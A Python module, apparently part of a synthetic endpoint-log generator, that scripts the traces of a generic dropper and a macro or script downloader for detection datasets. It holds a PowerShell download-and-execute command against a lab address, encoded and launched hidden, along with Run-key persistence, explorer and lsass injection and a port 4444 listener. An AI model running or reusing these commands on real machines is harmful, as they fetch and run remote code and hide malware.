"""Commodity malware runs for the synthetic Mark II logs: a generic dropper and a script or macro downloader.
Both persist in the Run key, inject into explorer.exe and talk to their server.

Scenarios of :mod:`mk2ds.plugins.synthetic.scenarios`, written with :class:`~mk2ds.plugins.synthetic.story.Story`;
every name and address is invented.
"""

from __future__ import annotations

import base64

from mk2ds.plugins.synthetic.background_base import SYSTEM32
from mk2ds.plugins.synthetic.story import RUN_KEY, Sample, Story, launch_sample
from mk2ds.plugins.synthetic.world import quote

__all__ = ["dropper", "script"]

POWERSHELL = f"{SYSTEM32}\\WindowsPowerShell\\v1.0\\powershell.exe"
WINWORD = "C:\\Program Files (x86)\\Microsoft Office\\root\\Office16\\WINWORD.EXE"


def dropper(story: Story, sample: Sample) -> None:
    """A generic dropper: writes a payload under AppData, persists it in Run, starts it; the payload injects
    into the running explorer.exe and beacons."""
    world, office = story.world, story.office
    parent = launch_sample(story, sample)
    story.wait(1, 4)
    name = world.rng.choice(["OneDriveSync", "AdobeUpdater", "JavaUpdate", "WinDefend32"])
    folder = f"{story.profile}\\AppData\\Roaming\\Microsoft\\{name}"
    story.add("file", "createDir", parent, ("path", quote(folder)), ("drvType", "HDD"))
    payload = f"{folder}\\{name.lower()}.exe"
    story.write(parent, payload, world.rng.randrange(90000, 400000))
    story.registry(parent, RUN_KEY, name, f'"{payload}" /background')
    child = story.start(parent, payload, f'"{payload}" /background')
    story.stop(parent)
    story.wait(2, 10)
    story.inject(child, office.explorer, "CreateRemoteThread")
    for _ in range(6):
        story.connect(
            office.explorer,
            "172.24.0.66",
            443,
            recv=world.rng.randrange(200, 3000),
            send=world.rng.randrange(200, 900),
            host_name="cdn.update-check.example",
        )
        story.wait(30, 120)
    story.add(
        "file",
        "close",
        office.explorer,
        ("path", quote(f"{story.profile}\\Documents\\見積書_2018年3月.xlsx")),
        ("drvType", "HDD"),
        ("read", "48213"),
        ("write", "0"),
        ("size", "48213"),
        ("hide", "0"),
        ("new", "0"),
    )


def script(story: Story, sample: Sample) -> None:
    """A script or macro sample (.js/.vbs via WScript, .doc via Word) that launches an encoded PowerShell
    download, whose payload persists, injects into explorer.exe and listens on a port."""
    world, office = story.world, story.office
    if sample.path.lower().endswith((".doc", ".docm", ".docx", ".xls", ".xlsm")):
        host = story.start(office.explorer, WINWORD, f'"{WINWORD}" /n "{sample.path}" /o ""')
        story.wait(2, 6)
        story.add("file", "enableMacro", host, ("path", quote(sample.path)))
    else:
        host = story.start(office.explorer, f"{SYSTEM32}\\WScript.exe", f'"{SYSTEM32}\\WScript.exe" "{sample.path}" ')
    story.wait(1, 3)
    command = "IEX (New-Object Net.WebClient).DownloadString('http://172.24.0.9/a.ps1')"
    encoded = base64.b64encode(command.encode("utf-16-le")).decode("ascii")
    shell = story.start(host, POWERSHELL, f"powershell.exe -NoP -NonI -W Hidden -EncodedCommand {encoded}")
    for name in ("New-Object", "Invoke-Expression", "Invoke-WebRequest", "Start-Process"):
        story.add("powerShell", "exec", shell, ("shCmd", quote(name)), ("cmdType", quote("Cmdlet")))
        story.wait(0.05, 0.5)
    story.connect(shell, "172.24.0.9", 80, recv=2211, send=380, host_name="files.lab.local")
    payload = f"{story.temp}\\svc_upd.exe"
    story.write(shell, payload, world.rng.randrange(60000, 200000))
    child = story.start(shell, payload, f'"{payload}" -k netsvc')
    story.stop(shell)
    story.stop(host)
    story.registry(child, RUN_KEY, "SvcUpdate", f'"{payload}" -k netsvc')
    story.inject(child, office.explorer, "WriteProcessMemory")
    story.inject(child, office.lsass, "OpenProcess", guarded=True)
    story.add("net", "lsn", child, ("port", "4444"))
